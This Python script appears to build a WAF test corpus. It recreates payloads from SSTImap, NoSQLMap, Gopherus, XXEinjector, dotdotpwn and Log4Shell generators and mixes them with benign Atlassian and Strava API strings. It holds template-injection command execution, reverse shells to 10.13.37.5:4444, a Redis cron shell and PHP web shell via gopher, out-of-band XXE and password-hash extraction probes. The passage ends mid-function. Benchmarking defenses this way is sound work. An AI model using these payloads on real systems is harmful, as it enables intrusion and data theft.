"""fresh17: the classes fresh16 lacked (template, NoSQL, SSRF, JNDI, XXE, LDAP, traversal, prototype pollution and
some command injection), rebuilt as eight attack tools build them, against recorded Jira/Bitbucket/Service Desk API
answers and recorded Strava API answers.

    python bench/waf/fresh17/build.py                                  # writes corpus.jsonl (deterministic)
    python bench/waf/fresh17/build.py --extract ATLASSIAN STRAVALIB     # re-selects the values (the three json files)

``ATLASSIAN`` is the unpacked ``atlassian-python-api`` 5.0.5 PyPI sdist, ``STRAVALIB`` the unpacked ``stravalib``
2.6.0 PyPI sdist.

Attack payloads. ``records.txt`` (``class|kind|value`` lines under ``@@ source`` lines naming repository, file, commit
and licence; each file's stored text was read through the code-search index): Hackmanit/TInjA's error and non-error
template polyglots, back2root/log4shell-rex's test lookups and the LDAP filter payloads of
abdullah89255/-LDAP-injection. Built here as the tools build them (no file is copied; GPL tools give test strings only):

- vladko312/SSTImap (GPL-3.0, strings only): for Jinja2, Twig, Smarty, Freemarker, Velocity, Mako, ERB, EJS, Nunjucks,
  Spring EL and Tornado, the render probe (header + test_render + trailer) in the text context and in each of the
  plugin's contexts (prefix + probe + suffix; ``{closure}`` filled with ``1``), the render_error probe, and the
  evaluate, execute, execute_blind and evaluate_blind payloads with a fixed command (``id``) or the plugin's own test
  code; ``rand.randints`` / ``randstrings`` fixed, ``{code_b64}`` URL-safe base64 without padding, ``{code_b64p}``
  standard base64, delay 4. Its bash reverse and bind shells (``core/bash.py``) with host 10.13.37.5, port 4444,
  shell ``/bin/sh``, as the command-injection payloads.
- codingo/NoSQLMap (GPL-3.0, strings only): ``nsmweb.buildUri``'s injected values (``$where`` string and integer
  escapes, ``this.a !=``, the 10-second busy loops) with its random value fixed, and the ``getDBInfo`` probes built
  from ``uriArray[16]`` (database-name length and characters, user count, user and hash characters).
- tarunkant/Gopherus (MIT): the gopher links its Redis (cron reverse shell, PHP web shell), SMTP, Zabbix and
  PyMemcached (Python 2 pickle, set and delete) scripts print, with their default answers.
- enjoiz/XXEinjector: the DTD it injects after the XML declaration (out-of-band), its direct-exploitation document with
  ``file:///``, ``php://filter``, ``expect://`` and ``jar:`` targets, its Windows-hash UNC path and its XSLT probe;
  its host fixed.
- wireghoul/dotdotpwn ``DotDotPwn/TraversalEngine.pm``: every 9th dots x slashes pattern at depth 3-8 with the Unix
  and Windows targets and the filename slashes translated as ``fname_slash_encoding`` does, the special patterns and the
  special suffixes; ``%xx`` decoded once where the result is UTF-8 (as the application receives it), kept as written
  where it is not (overlong UTF-8, ``%u``, ``%%32``).
- yuudai-g/Log4ShellAttackPatternsGenerator: its plain pattern for ldap, ldaps and rmi and its ``${lower:}``/
  ``${upper:}`` obfuscation, the random choices made by a seeded generator.
- hackvertor/server-side-prototype-pollution (Apache-2.0): the JSON bodies of its body and dot-notation scans
  (``json spaces``, ``head``, ``status``, ``exposedHeaders``; attack and nullify values) on a small object.
- RajChowdhury240/LDAP-Injection ``attack.sh``: its blind ``userPassword`` prefix loop for the password ``secret``.

Values already in an older split (``older_payloads``) or repeated are dropped and listed in ``sources.json``; what was
left out on purpose is listed there with the reason (``@@ drop`` lines and ``LEFT_OUT``).

Benign values: (1) the recorded Jira, Bitbucket and Jira Service Management answers shipped as ``tests/responses/`` in
``atlassian-python-api`` 5.0.5 (PyPI sdist, Apache-2.0; Python literals read with ``ast.literal_eval``): user and
project names, issue summaries and descriptions, rendered HTML, commit messages, pipeline commands, URLs, keys and
dates; (2) the recorded Strava API answers shipped as ``src/stravalib/tests/resources/*.json`` in ``stravalib`` 2.6.0
(PyPI sdist, Apache-2.0; the API's swagger document left out): athlete, activity, segment and route names, encoded
polylines, URLs, dates and codes. Every unique string (at most 4,000 characters), sorted into names, prose, urls and
codes by its shape, at most ``CAP`` per category at an even stride, placed in the eight locations with ``SplitCorpus``
as in fresh15, with the long texts. Split name ``fresh17``.
"""

from __future__ import annotations

import ast
import base64
import glob
import json
import os
import random
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus, unquote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # bench/waf is not a package (bench/waf.py is the runner)

from split_corpus import attack_meta, build_values_only, even, first_seen, main, read_records, write_values  # noqa: E402

SPLIT = "fresh17"
CAP = 400
OOB = "f17k2m4n6p8r0t.oastify.com"
ATL = "atlassian-python-api 5.0.5"
STRAVA = "stravalib 2.6.0"
HOW_READ = (
    "each file's stored text through the code-search index (read_file), the commit named per source; TInjA, "
    "log4shell-rex and the LDAP README transcribed into records.txt as written, the other tools' payloads rebuilt "
    "by build.py from their code as the tool builds them (see its docstring)"
)


def _decode(kind: str, text: str) -> str:
    return str(json.loads(text))


# --- SSTImap ------------------------------------------------------------------------------------------------------

_INTS = (5417, 2233, 7119)
_HEAD = (1934, 2718)
_TRAIL = (6152, 3489)
_STRS = ("qvtzr", "kmwpx", "jhdsu")
_CMD = "id"
_DELAY = "4"


def _b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def _b64p(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _fill(template: str, code: str = _CMD) -> str:
    return (
        template.replace("{header[0]}", str(_HEAD[0]))
        .replace("{header[1]}", str(_HEAD[1]))
        .replace("{trailer[0]}", str(_TRAIL[0]))
        .replace("{trailer[1]}", str(_TRAIL[1]))
        .replace("{code_b64p}", _b64p(code))
        .replace("{code_b64}", _b64(code))
        .replace("{code}", code)
        .replace("{delay}", _DELAY)
        .replace("{closure}", "1")
        .replace("{rclosure}", "1")
        .replace("{{", "{")
        .replace("}}", "}")
    )


# Per engine: (header, trailer, test_render, contexts [(prefix, suffix)], render_error (header, trailer, body) or None,
# [payloads with {code}/{code_b64}/{code_b64p}], evaluate code). Templates are the plugins' Python format strings.
_R = _INTS
_S = _STRS
_ENGINES: dict[str, dict[str, Any]] = {
    "jinja2": {
        "render": (
            "{{{{{header[0]}+{header[1]}}}}}",
            "{{{{{trailer[0]}+{trailer[1]}}}}}",
            f"{{{{({_R[0]},{_R[1]}*{_R[2]})|e}}}}",
        ),
        "contexts": [("{closure}}}}}", ""), ("{closure}%}}", ""), ("{closure}\n", "\n"), ("#}}", "{#")],
        "error": (
            '{{{{ cycler.__init__.__globals__.__builtins__.getattr("", (({header[0]}+{header[1]})|string)+(',
            "|string)+(({trailer[0]}+{trailer[1]})|string))}}}}",
            f"({_R[0]},{_R[1]}*{_R[2]})|e",
        ),
        "payloads": [
            "{{{{cycler.__init__.__globals__.__builtins__.eval(cycler.__init__.__globals__.__builtins__.__import__("
            '"base64").urlsafe_b64decode("{code_b64}").decode())}}}}',
            '{{{{cycler.__init__.__globals__.os.popen(cycler.__init__.__globals__.__builtins__.__import__("base64")'
            '.urlsafe_b64decode("{code_b64}").decode()).read()}}}}',
            '{{{{cycler.__init__.__globals__.os.popen(cycler.__init__.__globals__.__builtins__.__import__("base64")'
            ".urlsafe_b64decode(\"{code_b64}\").decode() + ' && sleep {delay}')}}}}",
            "{{{{1 / (not not cycler.__init__.__globals__.__builtins__.eval(cycler.__init__.__globals__.__builtins__."
            "__import__('base64').urlsafe_b64decode('{code_b64}').decode()))}}}}",
        ],
    },
    "twig": {
        "render": (
            '{{% for a in {{"0":"error_reporting"}}|map("ini_set") %}}{{% endfor %}}{{{{{header[0]}+{header[1]}}}}}',
            "{{{{{trailer[0]}+{trailer[1]}}}}}",
            f'{{{{(1..3)|filter(x => x < 3)|join("")}}}}{{{{"{_S[0]}\\n"|nl2br}}}}',
        ),
        "contexts": [
            ("{closure}}}}}", "{{1"),
            ("{closure} %}}", ""),
            ("#}}", "{#"),
            ("{closure} %}}{{% endfor %}}{{% for a in [1] %}}", ""),
            ("{closure} = 1 %}}", ""),
        ],
        "error": (
            "{{%set h={header[0]}+{header[1]}%}}",
            "{{%set t={trailer[0]}+{trailer[1]}%}}{{{{include([h,b,t]|join)}}}}",
            f'{{%set a=(1..3)|filter(x => x < 3)|join("")%}}{{%set b=[a,"{_S[0]}"]|join%}}',
        ),
        "payloads": [
            '{{%set p={{"{code_b64p}":"base64_decode"}}|map("call_user_func")|join%}}{{{{ {{(p):"shell_exec"}}|'
            'map("call_user_func")|join }}}}',
            '{{%set p={{"{code_b64p}":"base64_decode"}}|map("call_user_func")|join%}}{{{{ {{([p, "&& sleep '
            '{delay}"]|join):"shell_exec"}}|map("call_user_func")|join }}}}',
            "php -r 'eval(base64_decode(\"{code_b64p}\"));'",
        ],
    },
    "smarty": {
        "render": (
            "{{{header[0]}+{header[1]}}}",
            "{{{trailer[0]}+{trailer[1]}}}",
            f"{{{_R[0]}}}{{*{_R[1]}*}}{{{_R[2]}}}",
        ),
        "contexts": [
            ("{closure}}}", "{{"),
            ("{closure}}}{{/if}}{{if 1}}", ""),
            ('{closure} var="" value=""}}{{assign var="" value=""}}', ""),
            ("*}}", "{*"),
        ],
        "error": None,
        "payloads": [
            "{{if system(base64_decode(str_pad(strtr('{code_b64}', '-_', '+/'), strlen('{code_b64}')%4,'=',"
            "STR_PAD_RIGHT)))}}{{/if}}",
            "{{if system(base64_decode(str_pad(strtr('{code_b64}', '-_', '+/'), strlen('{code_b64}')%4,'=',"
            'STR_PAD_RIGHT))|cat:" && sleep {delay}")}}{{/if}}',
        ],
    },
    "freemarker": {
        "render": (
            "${{({header[0]}+{header[1]})?c}}",
            "${{({trailer[0]}+{trailer[1]})?c}}",
            f"${{{_R[0]}}}<#--{_R[1]}-->${{{_R[2]}}}",
        ),
        "contexts": [
            ("{closure}}}", ""),
            ("{closure}>", ""),
            ("-->", "<#--"),
            ("{closure} as a></#list><#list [1] as a>", ""),
        ],
        "error": None,
        "payloads": [
            '${{"freemarker.template.utility.Execute"?new()("/bin/bash -c {{eval,$({{tr,/+,_-}}<<<{code_b64}|'
            '{{base64,-d}})}}") }}',
            '${{"freemarker.template.utility.Execute"?new()("bash -c {{eval,$({{tr,/+,_-}}<<<{code_b64}|'
            '{{base64,-d}})}}&&{{sleep,{delay}}}") }}',
        ],
    },
    "velocity": {
        "render": (
            "#set($h={header[0]}+{header[1]})${{h}}",
            "#set($t={trailer[0]}+{trailer[1]})${{t}}",
            f"#set($c={_R[0]}*{_R[1]})${{c}}",
        ),
        "contexts": [("{closure})", ""), ("{closure}#end#if(1==1)", ""), ("*#", "#*")],
        "error": (
            "#set($h={header[0]}+{header[1]})",
            '#set($t={trailer[0]}+{trailer[1]})#set($r=("Y:/A:/"+$h+$b+$t))#include($r)',
            f"#set($b={_R[0]}*{_R[1]})",
        ),
        "payloads": [
            '#set($s="")#set($sc=$s.getClass().getConstructor($s.getClass().forName("[B"), $s.getClass()))'
            '#set($p=$s.getClass().forName("java.lang.Runtime").getRuntime().exec($sc.newInstance($s.getClass()'
            '.forName("java.util.Base64").getDecoder().decode("{code_b64p}"), "UTF-8")))#set($n=$p.waitFor())'
            '#set($o=$sc.newInstance($p.inputStream.readAllBytes(), "UTF-8"))${{o}}',
            '#set($s="")#set($sc=$s.getClass().getConstructor($s.getClass().forName("[B"), $s.getClass()))'
            '#set($p=$s.getClass().forName("java.lang.Runtime").getRuntime().exec($sc.newInstance($s.getClass()'
            '.forName("java.util.Base64").getDecoder().decode("{code_b64p}"), "UTF-8")))#set($n=$p.waitFor())'
            '#if($n == 0)#set($t=$s.getClass().forName("java.lang.Thread").sleep({delay}000))#end',
            '#if(false)#include("Y:/A:/true")#end',
            '#set($o=1.0)#if($o.equals(0.1))#include("Y:/A:/xxx")#end',
        ],
    },
    "mako": {
        "render": (
            "${{{header[0]}+{header[1]}}}",
            "${{{trailer[0]}+{trailer[1]}}}",
            f"${{'{_S[0]}'.join('{_S[1]}')}}${{\"%\" | u}}",
        ),
        "contexts": [
            ("{closure}}}", ""),
            ("{closure}%>", "<%#"),
            ("{closure}#\n", "\n"),
            ("</%doc>", "<%doc>"),
            ("</%def>", '<%def name="t(x)">'),
            ("</%block>", "<%block>"),
            ("</%text>", "<%text>"),
        ],
        "error": None,
        "payloads": ["${{'' | u}}${{{code}}}<%doc>${{1/0}}</%doc>"],
        "code": "__import__('os').popen('id').read()",
    },
    "erb": {
        "render": ("<%={header[0]}+{header[1]}%>", "<%={trailer[0]}+{trailer[1]}%>", f"<%=({_R[0]}*{_R[1]}).to_s%>"),
        "contexts": [],
        "error": (
            "<%$h=({header[0]}+{header[1]}).to_s%>",
            '<%$t=({trailer[0]}+{trailer[1]}).to_s%><%File.read("Y:/A:/"+$h+$b+$t)%>',
            f"<%$b=({_R[0]}*{_R[1]}).to_s%>",
        ),
        "payloads": [
            "<%= {code} %>",
            "<%= require'base64';eval(Base64.urlsafe_decode64('{code_b64}'))&&sleep({delay}) %>",
            "<%= require'base64';%x(#{{Base64.urlsafe_decode64('{code_b64}')+' && sleep {delay}'}}) %>",
        ],
        "code": "`id`",
    },
    "ejs": {
        "render": (
            "<%= {header[0]}+{header[1]} %>",
            "<%= {trailer[0]}+{trailer[1]} %>",
            f"<%= typeof({_R[0]})+{_R[1]} %>",
        ),
        "contexts": [("{closure}%>", "<%#"), ("*/%>", "<%#")],
        "error": (
            "<%=''['x'][({header[0]}+{header[1]}).toString()+",
            "+({trailer[0]}+{trailer[1]}).toString()]%>",
            f"typeof({_R[0]})+{_R[1]}",
        ),
        "payloads": [
            "<%=eval(Buffer('{code_b64p}', 'base64').toString())%>",
            "<%= global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64')"
            ".toString()) %>",
            "<%global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64')"
            ".toString() + ' && sleep {delay}')%>",
            "<%=[\"\"][0+!eval(Buffer('{code_b64p}', 'base64').toString())][\"length\"]%>",
        ],
        "code": "global.process.mainModule.require('os').platform()",
    },
    "nunjucks": {
        "render": (
            "{{{{{header[0]}+{header[1]}}}}}",
            "{{{{{trailer[0]}+{trailer[1]}}}}}",
            f"{{{{({_R[0]},{_R[1]}*{_R[2]})|dump}}}}",
        ),
        "contexts": [
            ("{closure}}}}}", "{{1"),
            ("{closure} %}}", ""),
            ("{closure} %}}{{% endfor %}}{{% for a in [1] %}}", ""),
            ("{closure} = 1 %}}", ""),
            ("#}}", "{#"),
        ],
        "error": (
            "{{{{range.constructor(\"''['x'][({header[0]}+{header[1]}).toString()+",
            '+({trailer[0]}+{trailer[1]}).toString()]")()}}}}',
            f"typeof({_R[0]})+{_R[1]}",
        ),
        "payloads": [
            "{{{{range.constructor(\"return eval(Buffer('{code_b64p}','base64').toString())\")()}}}}",
            "{{{{range.constructor(\"global.process.mainModule.require('child_process').execSync(Buffer("
            "'{code_b64p}', 'base64').toString() + ' && sleep {delay}')\")()}}}}",
            "{{{{eval(Buffer('{code_b64p}', 'base64').toString())&&global.process.mainModule.require('child_process')"
            ".execSync('sleep {delay}')}}}}",
        ],
        "code": "global.process.mainModule.require('child_process').execSync('id')",
    },
    "spel": {
        "render": (
            "({header[0]}+{header[1]})+''+(",
            ")+''+({trailer[0]}+{trailer[1]})+''",
            f"'{_S[0]}'+(T(java.lang.Integer).valueOf('2000000000')+2000000000)+'{_S[1]}'",
        ),
        "contexts": [("{closure}+", "+{rclosure}"), ("{closure}}}#{{", "}}#{{{rclosure}")],
        "wrap": "#{{{code}}}",
        "error": (
            "T(java.lang.Integer).valueOf(({header[0]}+{header[1]})+''+(",
            ")+''+({trailer[0]}+{trailer[1]})+'ZZ')",
            f"'{_S[0]}'+(T(java.lang.Integer).valueOf('2000000000')+2000000000)+'{_S[1]}'",
        ),
        "payloads": [
            "T(java.lang.String).getConstructor(T(byte[])).newInstance(T(java.lang.Runtime).getRuntime().exec("
            "T(java.lang.String).getConstructor(T(byte[])).newInstance(T(java.util.Base64).getDecoder().decode("
            '"{code_b64p}"))).inputStream.readAllBytes())',
            "(T(java.lang.Runtime).getRuntime().exec(T(java.lang.String).getConstructor(T(byte[])).newInstance("
            'T(java.util.Base64).getDecoder().decode("{code_b64p}"))).waitFor().equals(0)?T(java.lang.Thread)'
            ".sleep({delay}000):0).toString()",
            "(T(java.lang.Integer).valueOf('1')/((1000000000+1000000000==2000000000)?1:0)+'')",
        ],
    },
    "tornado": {
        "render": (
            "{{{{{header[0]}+{header[1]}}}}}",
            "{{{{{trailer[0]}+{trailer[1]}}}}}",
            f"{{{{'{_S[0]}'}}}}{{#comment#}}{{% raw '{_S[0]}'.join('{_S[1]}') %}}{{{{'{_S[1]}'}}}}",
        ),
        "contexts": [("{closure}}}}}", ""), ("{closure}%}}", ""), ("#}}", "{#")],
        "error": (
            '{{# 1/0 #}}{{% raw getattr("", str({header[0]}+{header[1]})+str(',
            ").rstrip()+str({trailer[0]}+{trailer[1]})) %}}",
            f"'{_S[0]}'+'{_S[0]}'.join('{_S[1]}')+'{_S[1]}'",
        ),
        "payloads": [
            "{{% raw {code} %}}",
            "{{# 1/0 #}}{{% raw str(1 / bool(eval(__import__('base64').urlsafe_b64decode('{code_b64}').decode()))) %}}",
        ],
        "code": "__import__('os').popen('id').read()",
    },
}


def _sstimap() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    for engine in _ENGINES.values():
        head, trail, test = engine["render"]
        probe = _fill(head) + test + _fill(trail)  # test_render is an f-string already, the rest format templates
        wrap = engine.get("wrap")
        out.append(("ssti", _fill(wrap.replace("{code}", "\0")).replace("\0", probe) if wrap else probe))
        for prefix, suffix in engine["contexts"]:
            if "{closure}" in prefix:  # contexts with closures are formatted, the others used as written
                prefix, suffix = _fill(prefix), _fill(suffix)
            out.append(("ssti", prefix + probe + suffix))
        if engine["error"]:
            e_head, e_trail, e_body = engine["error"]
            out.append(("ssti", _fill(e_head) + e_body + _fill(e_trail)))
        code = engine.get("code", _CMD)
        for payload in engine["payloads"]:
            out.append(("ssti", _fill(payload, code)))
    return out


_SHELL_HOST, _SHELL_PORT, _SHELL = "10.13.37.5", "4444", "/bin/sh"
_SHELLS = [
    'python -c \'import pty,os,socket;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.bind(("", SSTIMAP:port;));'
    "s.listen(1);(rem, addr) = s.accept();os.dup2(rem.fileno(),0);os.dup2(rem.fileno(),1);os.dup2(rem.fileno(),2);"
    'pty.spawn("SSTIMAP:shell;");s.close()\'',
    "nc -l -p SSTIMAP:port; -e SSTIMAP:shell;",
    "rm -rf /tmp/f;mkfifo /tmp/f;cat /tmp/f|SSTIMAP:shell; -i 2>&1|nc -l SSTIMAP:port; >/tmp/f; rm -rf /tmp/f",
    "socat tcp-l:SSTIMAP:port; exec:SSTIMAP:shell;",
    'perl -e \'use Socket;$p=SSTIMAP:port;;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));bind(S,sockaddr_in($p, '
    'INADDR_ANY));listen(S,SOMAXCONN);for(;$p=accept(C,S);close C){open(STDIN,">&C");open(STDOUT,">&C");'
    'open(STDERR,">&C");exec("SSTIMAP:shell; -i");};\'',
    "sleep 1; rm -rf /tmp/f;mkfifo /tmp/f;cat /tmp/f|SSTIMAP:shell; -i 2>&1|nc SSTIMAP:host; SSTIMAP:port; >/tmp/f",
    "sleep 1; nc -e SSTIMAP:shell; SSTIMAP:host; SSTIMAP:port;",
    "sleep 1; ncat -e SSTIMAP:shell; SSTIMAP:host; SSTIMAP:port;",
    "sleep 1; busybox nc -e SSTIMAP:shell; SSTIMAP:host; SSTIMAP:port;",
    "sleep 1; python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("
    '"SSTIMAP:host;",SSTIMAP:port;));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);'
    'p=subprocess.call(["SSTIMAP:shell;","-i"]);\'',
    "sleep 1; /bin/bash -c 'SSTIMAP:shell; 0</dev/tcp/SSTIMAP:host;/SSTIMAP:port; 1>&0 2>&0'",
    'sleep 1; perl -e \'use Socket;$i="SSTIMAP:host;";$p=SSTIMAP:port;;socket(S,PF_INET,SOCK_STREAM,'
    'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("SSTIMAP:shell; -i");}};\'',
    'sleep 1; ruby -rsocket -e\'spawn("SSTIMAP:shell;",[:in,:out,:err]=>TCPSocket.new("SSTIMAP:host;",'
    "SSTIMAP:port;))'",
    "sleep 1; socat TCP:SSTIMAP:host;:SSTIMAP:port; EXEC:SSTIMAP:shell;",
    "sleep 1; python -c 'import socket,pty,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("
    '"SSTIMAP:host;",SSTIMAP:port;));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);'
    'pty.spawn("SSTIMAP:shell;");\'',
    "sleep 1; C='curl -Ns telnet://SSTIMAP:host;:SSTIMAP:port;'; $C </dev/null 2>&1 | SSTIMAP:shell; 2>&1 | "
    "$C >/dev/null",
    "sleep 1; php -r '$sock=fsockopen(\"SSTIMAP:host;\",SSTIMAP:port;);`SSTIMAP:shell; <&3 >&3 2>&3`;'",
]


def _shells() -> list[tuple[str, str]]:
    fill = {"SSTIMAP:host;": _SHELL_HOST, "SSTIMAP:port;": _SHELL_PORT, "SSTIMAP:shell;": _SHELL}
    out = []
    for shell in _SHELLS:
        for key, val in fill.items():
            shell = shell.replace(key, val)
        out.append(("cmdi", shell))
    return out


# --- NoSQLMap -----------------------------------------------------------------------------------------------------

_RAND = "Xq7rT2vK9p"


def _nosqlmap() -> list[tuple[str, str]]:
    loop = (
        "var date = new Date(); var curDate = null; do { curDate = new Date(); } "
        "while((Math.abs(date.getTime()-curDate.getTime()))/1000 < 10); return;"
    )
    values = [
        "a'; return db.a.find(); var dummy='!",
        "1; return db.a.find(); var dummy=1",
        "a'; return db.a.findOne(); var dummy='!",
        "1; return db.a.findOne(); var dummy=1",
        f"a'; return this.a != '{_RAND}'; var dummy='!",
        f"1; return this.a !={_RAND}; var dummy=1",
        f"1; {loop} var dummy=1",
        "a\"; return db.a.find(); var dummy='!",
        f"a\"; return this.a != '{_RAND}'; var dummy='!",
        'a"; return db.a.findOne(); var dummy="!',
        f'a"; {loop} var dummy="!',
        "a'; return true; var dum='a",
        "1; return true; var dum=2",
        f"a'; {loop} var dummy='!",
    ]
    base = "a'; ---"
    probes = [
        "return true; var dummy ='!",
        "var curdb = db.getName(); if (curdb.length ==5) {return true;} var dum='a",
        "var curdb = db.getName(); if (curdb.charAt(0) == 'a') { return true; } var dum='a",
        "var usrcnt = db.system.users.count(); if (usrcnt == 1) { return true; } var dum='a",
        "var usr = db.system.users.findOne(); if (usr.user.length == 5) { return true; } var dum='a",
        "var usr = db.system.users.findOne(); if (usr.user.charAt(0) == 'a') { return true; } var dum='a",
        "var usr = db.system.users.findOne(); if (usr.pwd.charAt(0) == 'a') { return true; } var dum='a",
        "var usr = db.system.users.findOne({user:{$nin:['admin']}}); if (usr.user.length == 5) { return true; } "
        "var dum='a",
    ]
    values += [base.replace("---", p) for p in probes]
    return [("nosqli", v) for v in values]


# --- Gopherus -----------------------------------------------------------------------------------------------------


def _gopher_quote(payload: str) -> str:
    return quote_plus(payload).replace("+", "%20").replace("%2F", "/").replace("%25", "%").replace("%3A", ":")


def _gopherus() -> list[tuple[str, str]]:
    out: list[str] = []
    server, crontab = "127.0.0.1", "/var/spool/cron/"
    cmd = '*/1 * * * * bash -c "sh -i >& /dev/tcp/' + server + '/1234 0>&1"'
    redis_cron = (
        "*1\r\n$8\r\nflushall\r\n*3\r\n$3\r\nset\r\n$1\r\n1\r\n$"
        + str(len(cmd) + 5)
        + "\r\n\n\n"
        + cmd
        + "\n\n\n\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$"
        + str(len(crontab))
        + "\r\n"
        + crontab
        + "\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n*1\r\n$4\r\nsave\r\n\n"
    )
    out.append("gopher://127.0.0.1:6379/_" + _gopher_quote(redis_cron))
    php, root = "<?php system($_GET['cmd']); ?>", "/var/www/html"
    redis_php = (
        "*1\r\n$8\r\nflushall\r\n*3\r\n$3\r\nset\r\n$1\r\n1\r\n$"
        + str(len(php) + 4)
        + "\r\n\n\n"
        + php
        + "\n\n\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$"
        + str(len(root))
        + "\r\n"
        + root
        + "\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$9\r\nshell.php\r\n*1\r\n$4\r\nsave\r\n\n"
    )
    out.append("gopher://127.0.0.1:6379/_" + _gopher_quote(redis_php))
    smtp = "%0A".join(
        [
            "MAIL FROM:attacker@example.org",
            "RCPT To:admin@example.com",
            "DATA",
            "From:attacker@example.org",
            "Subject:hello",
            "Message:sent through the SSRF",
            ".",
        ]
    )
    out.append("gopher://127.0.0.1:25/_" + _gopher_quote(smtp))
    out.append("gopher://127.0.0.1:10050/_" + _gopher_quote("system.run[(ls);sleep 2s]"))
    shell = "rm -f /tmp/f; mkfifo /tmp/f;cat /tmp/f | /bin/sh -i 2>&1 | nc -l 127.0.0.1 1234 > /tmp/f"
    pickle = "cposix\nsystem\np1\n(S'" + shell + "'\np2\ntp3\nRp4\n."  # what Python 2's cPickle.dumps gives
    out.append(
        "gopher://127.0.0.1:11211/_%0d%0aset%20SpyD3r%201%2060%20"
        + str(len(pickle))
        + "%0d%0a"
        + _gopher_quote(pickle)
        + "%0d%0a"
    )
    out.append("gopher://127.0.0.1:11211/_%0d%0adelete%20SpyD3r%0d%0a")
    return [("ssrf", v) for v in out]


# --- XXEinjector --------------------------------------------------------------------------------------------------


def _xxeinjector() -> list[tuple[str, str]]:
    dtd = f'<!DOCTYPE convert [ <!ENTITY % remote SYSTEM "http://{OOB}:80/file.dtd">%remote;%int;%trick;]>'
    xsl = (
        f'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><xsl:variable name="cmd" select="document(\'http://{OOB}:1337/success\')"/>'
        '<xsl:value-of select="$cmd"/></xsl:template></xsl:stylesheet>'
    )
    direct = '<?xml version="1.0"?><!DOCTYPE m [ <!ENTITY direct SYSTEM "{}">]><tag>UNIQUEMARK&direct;UNIQUEMARK</tag>'
    out = [
        '<?xml version="1.0"?>' + dtd + "<order><id>42</id><note>x</note></order>",
        dtd,
        xsl,
        f'<?xml version="1.0"?><!DOCTYPE convert [ <!ENTITY % remote SYSTEM "file:////{OOB}/hash.jpg">%remote;]>'
        "<order><id>42</id></order>",
    ]
    for target in (
        "file:///etc/passwd",
        "file:///etc/",
        "file:///c:/windows/win.ini",
        "php://filter/convert.base64-encode/resource=/etc/passwd",
        "expect://ls",
        f"jar:http://{OOB}:1337!/upload.txt",
    ):
        out.append(direct.format(target))
    return [("xxe", v) for v in out]


# --- dotdotpwn ----------------------------------------------------------------------------------------------------

_DOTS = [
    "..",
    "..%01",
    ".?",
    "??",
    "?.",
    ".%2e",
    "%2e.",
    ".../.",
    "..../",
    "%2e%2e",
    "%c0%6e",
    "0x2e0x2e",
    "%c0.%c0.",
    "%252e%252e",
    "%c0%2e%c0%2e",
    "%c0%ae%c0%ae",
    "%c0%5e%c0%5e",
    "%c0%ee%c0%ee",
    "%c0%fe%c0%fe",
    "%uff0e%uff0e",
    "%%32%%65%%32%%65",
    "%e0%80%ae%e0%80%ae",
    "%25c0%25ae%25c0%25ae",
    "%f0%80%80%ae%f0%80%80%ae",
    "%f8%80%80%80%ae%f8%80%80%80%ae",
    "%fc%80%80%80%80%ae%fc%80%80%80%80%ae",
]
_SLASHES = [
    "/",
    "\\",
    "%2f",
    "%5c",
    "0x2f",
    "0x5c",
    "%252f",
    "%255c",
    "%c0%2f",
    "%c0%af",
    "%c0%5c",
    "%c1%9c",
    "%c1%pc",
    "%c0%9v",
    "%c0%qf",
    "%c1%8s",
    "%c1%1c",
    "%c1%af",
    "%bg%qf",
    "%u2215",
    "%u2216",
    "%uEFC8",
    "%uF025",
    "%%32%%66",
    "%%35%%63",
    "%e0%80%af",
    "%25c1%259c",
    "%25c0%25af",
    "%f0%80%80%af",
    "%f8%80%80%80%af",
]
_SPECIAL = [
    "..//",
    "..///",
    "..\\\\",
    "..\\\\\\",
    "../\\",
    "..\\/",
    "../\\/",
    "..\\/\\",
    "\\../",
    "/..\\",
    ".../",
    "...\\",
    "./../",
    ".\\..\\",
    ".//..//",
    ".\\\\..\\\\",
    "%2e%c0%ae%5c",
    "%2e%c0%ae%2f",
]
_SUFFIXES = ["%00", "%00index.html", "%00index.htm", ";index.html", ";index.htm"]
_FILES = ["etc/passwd", "etc/issue", "boot.ini", "windows\\system32\\drivers\\etc\\hosts"]


def _slash_encoding(fname: str, trav: str) -> str:
    """``fname_slash_encoding``: the filename's slashes in the last slash form the traversal uses."""
    if "/" not in fname and "\\" not in fname:
        return fname
    special = ["//", "///", "\\\\", "\\\\\\", "/\\", "\\/", "/\\/", "\\/\\"]
    for form in reversed(_SLASHES + special):
        if form[::-1] in trav[::-1]:
            return fname.replace("/", form) if "/" in fname else fname.replace("\\", form)
    return fname


def _received(value: str) -> str:
    """``%xx`` decoded once where the bytes are UTF-8, as the application receives them; kept as written if not."""
    try:
        return unquote(value, errors="strict")
    except UnicodeDecodeError:
        return value


def _dotdotpwn() -> list[tuple[str, str]]:
    patterns = [d + s for d in _DOTS for s in _SLASHES]
    out: list[str] = []
    for k, pattern in enumerate(patterns[::9]):
        depth = 3 + k % 6
        trav = pattern * depth
        out.append(trav + _slash_encoding(_FILES[k % len(_FILES)], trav))
    for k, pattern in enumerate(_SPECIAL):
